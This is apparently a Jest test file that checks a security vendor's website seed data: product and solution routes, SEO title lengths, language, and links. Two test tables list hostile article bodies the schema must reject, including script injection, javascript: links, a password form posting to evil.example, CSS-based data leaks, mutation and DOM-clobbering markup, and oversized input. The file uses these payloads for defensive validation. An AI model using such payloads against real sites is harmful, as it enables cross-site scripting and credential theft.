import { beforeAll, describe, expect, it } from "@jest/globals";
import { locales } from "@zhian/contracts/locale";
import { readSeed } from "./read-seed.ts";
import { toSeedRows } from "./seed-rows.ts";
import { type Seed, seedSchema } from "./seed-schema.ts";

const codes =
  "appbds apppcard appsss bbc bcc bcd bcm blb bos cag cdn cds cpcs cwds datacenter dcc ddos dengbao dns dts eds eip " +
  "eipgroup epim ers gpcs hosteye ias ipss islpcs issra las mss mysql osds postgresql pts sats scas sccs scs server " +
  "sis sqlserver srs ssl vpc vss waf websis wsas wsms ztsacs bci";
const solutions =
  "cloud-base dengbao-solution digital ecommerce edu-security finance-security game-security government medical " +
  "private smart-park generalSolution/digitalCollection";
const otherRoutes =
  "/ /about /activity /activity/cps /cp-activity /yn-activity /document /error /fogetPwd /news /notice /zixun " +
  "/products/bcd/price /products/bcd/search /partners/cps /partners/ecology /partners/strategy " +
  "/protocol/logoutProtocal /protocol/onlineOrder /protocol/privacyProtocal /protocol/userProtocal " +
  "/zhianCloud/SSLCertificate /zhianCloud/domainAndNetWebsite/dataConfig /search";
const routes = [
  ...codes.split(" ").map((code) => `/products/${code}`),
  ...solutions.split(" ").map((slug) => `/solution/${slug}`),
  ...otherRoutes.split(" "),
];

interface PageText {
  path: string;
  locale: string;
  title: string;
  description: string;
  keywords: string;
}

let seed: Seed;
let pageTexts: PageText[];

beforeAll(async () => {
  seed = await readSeed();
  // Made by toSeedRows from the checked seed, with these very columns.
  pageTexts = toSeedRows(seed)["page_text"] as unknown as PageText[];
});

function takes(body: string): boolean {
  const [article] = seed.articles;
  return seedSchema.safeParse({ ...seed, articles: [{ ...article, en: { ...article?.en, body } }] }).success;
}

describe("the seed", () => {
  it("has the 54 products and 12 solutions of the specification", () => {
    expect(seed.products.map(({ code }) => code).sort()).toEqual(codes.split(" ").sort());
    expect(seed.solutions.map(({ slug }) => slug).sort()).toEqual(solutions.split(" ").sort());
  });

  it.each(locales)("describes every route in %s, and no other but news categories", (locale) => {
    const described = pageTexts.filter((text) => text.locale === locale).map(({ path }) => path);
    const categories = seed["news-tags"].map(({ slug }) => `/zixun/${slug}`);
    expect(described.sort()).toEqual([...routes, ...categories].sort());
  });

  it.each([
    ["en", 60, 155],
    ["zh", 30, 80],
  ])(
    "keeps %s titles within %i and descriptions within %i characters, each only once",
    (locale, title, description) => {
      const own = pageTexts.filter((text) => text.locale === locale);
      expect(own.filter((text) => Array.from(text.title).length > title)).toEqual([]);
      expect(own.filter((text) => Array.from(text.description).length > description)).toEqual([]);
      expect(new Set(own.map((text) => text.title)).size).toBe(own.length);
      expect(new Set(own.map((text) => text.description)).size).toBe(own.length);
    },
  );

  it("shows no Chinese in English texts, and some in every Chinese description", () => {
    const han = /\p{Script=Han}/u;
    const english = [...seed.products, ...seed.solutions, ...seed.pages].flatMap(({ name, seo }) => [
      name.en,
      ...Object.values(seo.en),
    ]);
    expect(english.filter((text) => han.test(text))).toEqual([]);
    expect(pageTexts.filter((text) => text.locale === "zh" && !han.test(text.description))).toEqual([]);
  });

  it("has articles whose descriptions are shown whole, in both languages, and that name products that exist", () => {
    for (const { id, products, en, zh } of seed.articles) {
      expect([id, products.filter((code) => !codes.split(" ").includes(code))]).toEqual([id, []]);
      expect(Array.from(en?.description ?? "").length).toBeLessThanOrEqual(155);
      expect(Array.from(zh?.description ?? "").length).toBeLessThanOrEqual(80);
      expect([en?.body, zh?.body]).not.toContain(undefined);
    }
  });

  it("links to routes of the specification only", () => {
    const known = new Set([...routes, ...seed["news-tags"].map(({ slug }) => `/zixun/${slug}`), ""]);
    const nodes = toSeedRows(seed)["column_node"] ?? [];
    expect(nodes.filter(({ link }) => !known.has(String(link)))).toEqual([]);
    expect(new Set(nodes.map(({ id }) => id)).size).toBe(nodes.length);
  });

  it.each([
    ["a script", "Hello <script>alert(1)</script>"],
    ["an event handler", "<img src=x onerror=alert(1)>"],
    ["a comment", "<!-- --> text"],
    ["a script address", "[click](javascript:alert(1))"],
    ["a data address", "![x](data:text/html;base64,AAAA)"],
    ["another host in disguise", "[click](//evil.example)"],
    ["a plain address", "[click](http://evil.example)"],
    ["a base address", "<base href=//evil.example>"],
    ["a form", '<form action="https://evil.example"><input name=password></form>'],
    ["a new address after a while", '<meta http-equiv="refresh" content="0;url=//evil.example">'],
    ["a drawing with a script", "<svg><script>alert(1)</script></svg>"],
    ["markup that changes when it is read twice", "<math><mtext><table><mglyph><style><!--</style>"],
    ["an element named as a property", "<img name=getElementById id=page>"],
    ["a style that tells what it sees", "<style>a[href^='x']{background:url(//evil.example)}</style>"],
  ])("B-A-19 refuses an article with %s", (_what, body) => {
    expect(takes(body)).toBe(false);
  });

  it.each([
    ["raw HTML within a quote", "> > <b onclick=alert(1)>"],
    ["a picture that counts readers", "![](http://evil.example/1.gif)"],
    ["a table of a megabyte", "| a | b |\n|---|---|\n".concat("| 1 | 2 |\n".repeat(100_000))],
    ["a thousand quotes in each other", `${"> ".repeat(1_000)}text`],
    ["a hundred lists in each other", Array.from({ length: 100 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
  ])("B-A-20 refuses an article with %s", (_what, body) => {
    expect(takes(body)).toBe(false);
  });

  it("takes quotes and lists as people write them", () => {
    expect(
      takes("> A quote\n> > in a quote\n\n- a list\n  - in a list\n\n[a page](/news) and ![a picture](/a.png)"),
    ).toBe(true);
  });
});
